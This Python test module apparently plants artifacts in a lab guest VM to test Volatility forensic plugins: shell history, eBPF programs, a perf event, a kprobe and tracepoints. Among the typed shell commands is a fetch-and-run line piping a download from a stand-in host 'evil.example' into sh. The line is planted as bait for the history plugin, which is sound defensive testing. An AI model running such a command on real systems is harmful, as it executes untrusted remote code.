"""What somebody does in a guest that Volatility's plugins find traces of, with the guest's own word for each.

A shell with a history, eBPF programs, a performance counter that runs one, probes of the kernel.
"""

import re
import shlex
from collections.abc import Mapping
from datetime import UTC, datetime
from typing import Final

from tests.guests.lab import Guest
from tests.guests.planting import Planted, Row

__all__ = ["do_things"]

_TYPED: Final = (
    "export HISTTIMEFORMAT='%s '",
    "curl http://evil.example/x | sh",
    "echo 'never was here' # planted",
    # What the shell itself has as its history, and its number.
    "history >/run/history; echo $$ >/run/shell; echo >/run/done",
)
_SHELL: Final = (
    "mkfifo /run/typed && (setsid /bin/bash --norc --noprofile -i 0<>/run/typed >/run/shown 2>&1 &)"
    f" && printf '%s\\n' {shlex.join(_TYPED)} >/run/typed"
    " && until [ -e /run/done ]; do sleep 0.1; done"
    " && cat /run/history && cat /proc/$(cat /run/shell)/maps && readlink -f /proc/$(cat /run/shell)/exe"
    " && echo shell $(cat /run/shell)"
)
_HISTORY: Final = re.compile(r"^ +\d+  (\d+) (.*)$", re.MULTILINE)
_LIBRARY: Final = re.compile(r"^([0-9a-f]+)-.* 00000000 .* (/.*\.so\S*)$", re.MULTILINE)

_FUNCTION: Final = "vfs_rmdir"
_HANDLER: Final = "kprobe_ftrace_handler"
_EVENT: Final = "signal_deliver"
_PROBE: Final = f"trace_event_raw_event_{_EVENT}"
_TRACE: Final = (
    "mkdir /run/tracing && mount -t tracefs none /run/tracing && cd /run/tracing"
    f" && echo 'p:planted {_FUNCTION}' >kprobe_events && echo 1 >events/kprobes/planted/enable"
    f" && echo 1 >events/signal/{_EVENT}/enable"
    f" && grep -w '{_HANDLER}\\|{_PROBE}\\|__tracepoint_{_EVENT}\\|kprobe_ftrace_ops' /proc/kallsyms"
)
_SYMBOL: Final = re.compile(r"^([0-9a-f]+) \w (\w+)$", re.MULTILINE)
_KINDS: Final = {"filter": "SOCKET_FILTER", "counter": "PERF_EVENT"}
_NAMES: Final = {"filter": "planted_filter", "counter": "planted_count"}


def do_things(guest: Guest) -> Mapping[str, Planted]:
    """This does all of it, and tells what must come of it by the names of plugins."""
    return {**_use_shell(guest), **_load_programs(guest), **_trace(guest)}


def _use_shell(guest: Guest) -> Mapping[str, Planted]:
    said = guest.run(_SHELL).decode()
    pid = int(said.rpartition("shell ")[2])
    typed = [
        (datetime.fromtimestamp(int(when), UTC), line) for when, line in _HISTORY.findall(said)
    ]
    assert [line for _, line in typed] == list(_TYPED), said
    history = tuple(
        {"PID": pid, "Process": "bash", "CommandTime": when, "Command": line}
        for when, line in typed
    )
    libraries = tuple(
        {"Name": "bash", "Pid": pid, "LoadAddress": int(start, 16), "Path": path}
        for start, path in _LIBRARY.findall(said)
    )
    return {
        "linux.bash.Bash": Planted(history),
        "linux.library_list.LibraryList": Planted(libraries, some=True),
    }


def _load_programs(guest: Guest) -> Mapping[str, Planted]:
    tags = {name: _tag(guest, name) for name in _NAMES}
    programs: tuple[Row, ...] = tuple(
        {"Name": name, "Tag": tags[which], "Type": f"BPF_PROG_TYPE_{_KINDS[which]}"}
        for which, name in _NAMES.items()
    )
    name = _NAMES["counter"]
    full = f"bpf_prog_{tags['counter']}_{name}"
    event = {"PID": 1, "Event": "software", "Short Program Name": name, "Full Name": full}
    return {
        "linux.ebpf.EBPF": Planted(programs),
        "linux.tracing.perf_events.PerfEvents": Planted((event,)),
    }


def _tag(guest: Guest, which: str) -> str:
    """This loads a program, and gives the digest that the kernel tells of it."""
    (row,) = (row for row in guest.ask(f"bpf {which}") if row["kind"] == "program")
    said = guest.run(f"cat /proc/1/fdinfo/{row['fd']}").decode()
    (tag,) = re.findall(r"^prog_tag:\t(\w+)$", said, re.MULTILINE)
    return str(tag)


def _trace(guest: Guest) -> Mapping[str, Planted]:
    said = guest.run(_TRACE).decode()
    addresses = {name: int(digits, 16) for digits, name in _SYMBOL.findall(said)}
    hook = {
        "ftrace_ops address": addresses["kprobe_ftrace_ops"],
        "Callback": _HANDLER,
        "Callback address": addresses[_HANDLER],
        "Module": "__kernel__",
    }
    probe = {
        "tracepoint": _EVENT,
        "tracepoint address": addresses[f"__tracepoint_{_EVENT}"],
        "Probe": _PROBE,
        "Probe address": addresses[_PROBE],
    }
    # With the first event on, the kernel also records the names of processes as it switches between them.
    own = tuple(
        {"tracepoint": name} for name in ("sched_wakeup", "sched_wakeup_new", "sched_switch")
    )
    return {
        "linux.tracing.ftrace.CheckFtrace": Planted((hook,)),
        "linux.tracing.tracepoints.CheckTracepoints": Planted((probe, *own)),
    }
